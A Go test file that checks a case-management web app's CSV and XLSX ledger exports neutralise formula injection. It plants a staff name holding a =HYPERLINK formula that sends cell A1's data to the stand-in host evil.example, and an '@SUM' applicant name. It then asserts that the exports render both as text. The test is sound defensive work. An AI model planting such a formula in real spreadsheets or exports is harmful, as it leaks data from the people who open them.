package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"mingbai/internal/hall"
	"mingbai/internal/store"
)

// TestLedgerExportsNeutraliseFormulas: a staff name =HYPERLINK(…) and an
// applicant name starting with @ reach the ledger exports as text, never
// as formulas (issue 9, CSV injection).
func TestLedgerExportsNeutraliseFormulas(t *testing.T) {
	e := newHall(t)
	ctx := store.WithActor(context.Background(), store.Actor{Name: "test", Role: "system"})
	staff, err := e.DB.ListStaff(ctx, e.Hall)
	if err != nil {
		t.Fatal(err)
	}
	var w01 hall.Staff
	for _, s := range staff {
		if s.ID == e.People.Clerk.Staff {
			w01 = s
		}
	}
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"点此")`
	w01.Name = evil
	if _, err := e.DB.SaveStaff(ctx, w01); err != nil {
		t.Fatal(err)
	}
	body := caseBody("RS-A-004", "居民身份证")
	body["name"] = "@SUM(1+1)"
	e.createCase(e.token("w01"), body)

	res := e.request("GET", "/cases/ledger.csv", bearer(e.token("manager")))
	if res.Status != 200 {
		t.Fatalf("csv: %d %s", res.Status, res.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sawEvil := false
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				if _, err := strconv.ParseFloat(c, 64); err != nil {
					t.Errorf("csv cell is a formula: %q", c)
				}
			}
			sawEvil = sawEvil || c == "'"+evil
		}
	}
	if !sawEvil {
		t.Errorf("staff name not exported as neutralised text: %q", rows)
	}

	res = e.request("GET", "/cases/ledger.xlsx", bearer(e.token("manager")))
	f, err := excelize.OpenReader(bytes.NewReader([]byte(res.Body)))
	if err != nil {
		t.Fatal(err)
	}
	sheet := f.GetSheetName(0)
	xrows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range xrows {
		for j := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
				t.Errorf("xlsx cell %s holds a formula %q", cell, fm)
			}
		}
	}
}
